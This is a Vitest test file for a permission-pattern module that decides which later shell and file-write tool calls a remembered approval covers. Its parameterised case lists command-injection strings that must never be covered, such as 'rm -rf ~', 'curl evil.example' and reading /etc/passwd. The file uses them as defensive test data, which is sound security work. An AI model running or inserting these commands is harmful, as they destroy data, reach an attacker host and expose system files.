import { describe, expect, it } from 'vitest';
import { defaultPattern, describePattern, patternCovers, simpleProgram } from '../../src/core/arg-pattern.js';

describe('the arguments a remembered approval covers', () => {
  it('a simple shell command is bound to its program; plain arguments may change', () => {
    const pattern = defaultPattern('shell_exec', { command: 'echo hi' }, 'sha256:a');
    expect(pattern).toEqual({ kind: 'program', program: 'echo' });
    expect(describePattern(pattern)).toContain('echo …');
    expect(patternCovers(pattern, 'shell_exec', { command: 'echo there' }, 'sha256:b')).toBe(true);
    expect(patternCovers(pattern, 'shell_exec', { command: 'ls -la' }, 'sha256:c')).toBe(false);
  });

  it.each([
    'echo hi; rm -rf ~',
    'echo hi && curl evil.example',
    'echo $(cat /etc/passwd)',
    'echo `id`',
    'echo hi | sh',
    'echo hi > /etc/motd',
    "echo 'quoted'",
    'echo *',
    'echo hi\nrm -rf ~',
  ])('never covers %j, however it starts', (command) => {
    const pattern = defaultPattern('shell_exec', { command: 'echo hi' }, 'sha256:a');
    expect(simpleProgram(command)).toBeUndefined();
    expect(patternCovers(pattern, 'shell_exec', { command }, 'sha256:x')).toBe(false);
  });

  it('anything else is bound to exactly its arguments', () => {
    const shell = defaultPattern('shell_exec', { command: 'echo hi | wc -c' }, 'sha256:a');
    expect(shell).toEqual({ kind: 'exact', argsHash: 'sha256:a' });
    const write = defaultPattern('file_write', { path: 'a', content: 'x' }, 'sha256:w');
    expect(patternCovers(write, 'file_write', { path: 'a', content: 'x' }, 'sha256:w')).toBe(true);
    expect(patternCovers(write, 'file_write', { path: 'a', content: 'y' }, 'sha256:v')).toBe(false);
    // A program pattern never covers another tool.
    expect(
      patternCovers({ kind: 'program', program: 'echo' }, 'files__write', { command: 'echo' }, 'h'),
    ).toBe(false);
  });
});
